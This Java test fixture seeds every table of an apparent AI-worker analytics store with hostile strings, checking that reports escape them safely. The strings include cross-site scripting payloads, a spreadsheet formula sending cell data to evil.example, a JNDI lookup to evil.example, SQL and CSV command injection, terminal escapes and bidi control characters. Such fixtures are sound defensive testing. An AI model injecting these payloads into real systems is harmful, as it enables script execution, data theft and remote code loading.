package dev.twinstore.analytics;

import dev.twinstore.Store;
import dev.twinstore.cost.NewCost;
import dev.twinstore.db.tables.pojos.Worker;
import dev.twinstore.improvement.NewSuggestion;
import dev.twinstore.model.InterventionType;
import dev.twinstore.model.Severity;
import dev.twinstore.model.SuggestionType;
import dev.twinstore.outcome.NewOutcome;
import dev.twinstore.review.NewReview;
import dev.twinstore.supervision.NewBehaviorReview;
import dev.twinstore.supervision.NewIntervention;
import dev.twinstore.supervision.NewPatternDetection;
import dev.twinstore.task.Claim;
import dev.twinstore.task.NewTask;
import java.math.BigDecimal;
import java.util.List;

/** A row for every report, with text that tries to be more than text. */
public final class Hostile {
    /** Ends whatever it stands in, and would run. */
    public static final String SCRIPT =
            "</script></style></title><script>window.hurt=1</script><img src=x onerror=window.hurt=1>";

    public static final String ATTRIBUTE = "\" onmouseover=\"window.hurt=1\" x='";
    public static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    public static final String MARKUP =
            "| [click](http://evil.example) | ![x](http://evil.example/p.png) <b>bold</b> `x`";
    public static final String TERMINAL = "\u001b]0;owned\u0007\u001b[2J\u202Ereversed\r\nsecond line";

    /** Texts of other kinds. */
    public static final List<String> OTHERS = List.of(
            "\u009b31m\u0085\u2028\u2029\u007f\b\f\t|tab",
            "\u2066isolate\u2069 \u202Dforced\u202C \u200B\uFEFFzero width",
            "'; DROP TABLE tasks; -- ${jndi:ldap://evil.example/a} {0} {} %s%n \\",
            "+1\r\n=1+1,\"\",;'@cmd|' /C calc'!A0",
            "](javascript:alert(1)) ~~x~~ # h <!-- --> &lt;&#0; ]]> <svg/onload=alert(1)>",
            "- list\n1. list\n> quote\n---\n| --- |",
            "👩‍👩‍👧 𝒳 e\u0301 ﬁ \uFFFE\uDBFF\uDFFF",
            "x".repeat(950) + "<i>");

    private Hostile() {}

    /** A row for every report, in which every text is this one. */
    public static void fill(Store store, String text) {
        String root = store.outcomes().create(text).id();
        String child = store.outcomes().create(NewOutcome.of(text).parent(root)).id();
        Worker worker = store.workers().start(child, text);
        for (int i = 0; i < 3; i++) {
            var unused = store.tasks().add(child, NewTask.of(text).maxAttempts(1));
        }
        Claim claim = store.tasks().claim(worker).orElseThrow();
        claim.start().orThrow();
        store.costs()
                .add(claim, NewCost.of(BigDecimal.ONE).model(text).description(text))
                .orThrow();
        store.tasks().fail(claim, text).orThrow();
        var unused = store.tasks().claim(worker).orElseThrow();
        store.bottlenecks().note(child, text, text);
        store.reviews().add(child, NewReview.of(3).rawResponse(text));
        store.alerts().raise(worker.id(), text, Severity.CRITICAL, text);
        store.interventions().send(child, NewIntervention.of(InterventionType.REDIRECT, text));
        store.behaviorReviews()
                .add(worker.id(), NewBehaviorReview.of().alignmentScore(4).reasoning(text));
        store.patterns().add(worker.id(), NewPatternDetection.of(text, text, Severity.HIGH));
        store.suggestions().add(NewSuggestion.of(SuggestionType.SKILL, text, text));
        store.activity().add(child, text, text, "key", text);
    }

    /** Writes the rows, through the store. */
    public static void fill(Store store) {
        String root = store.outcomes().create(SCRIPT).id();
        String child =
                store.outcomes().create(NewOutcome.of(FORMULA).parent(root)).id();
        Worker worker = store.workers().start(child, ATTRIBUTE);
        for (String title : new String[] {SCRIPT, ATTRIBUTE, FORMULA, MARKUP, TERMINAL}) {
            var unused = store.tasks().add(child, NewTask.of(title).maxAttempts(1));
        }
        for (int i = 0; i < 3; i++) {
            Claim claim = store.tasks().claim(worker).orElseThrow();
            claim.start().orThrow();
            store.costs()
                    .add(
                            claim,
                            NewCost.of(new BigDecimal("0.25"))
                                    .model(i == 0 ? SCRIPT : FORMULA)
                                    .tokens(10, 20))
                    .orThrow();
            if (i == 0) {
                store.tasks().fail(claim, SCRIPT).orThrow();
            } else {
                store.tasks().complete(claim).orThrow();
            }
        }
        store.costs().addForOutcome(root, NewCost.of(new BigDecimal("0.000001")));
        store.bottlenecks().note(child, MARKUP, SCRIPT);
        store.reviews().add(child, NewReview.of(3));
        store.alerts().raise(worker.id(), SCRIPT, Severity.CRITICAL, SCRIPT);
        store.interventions().send(child, NewIntervention.of(InterventionType.REDIRECT, ATTRIBUTE));
        store.behaviorReviews().add(worker.id(), NewBehaviorReview.of().alignmentScore(40));
        store.patterns().add(worker.id(), NewPatternDetection.of(FORMULA, SCRIPT, Severity.HIGH));
        store.suggestions().add(NewSuggestion.of(SuggestionType.SKILL, SCRIPT, FORMULA));
    }
}
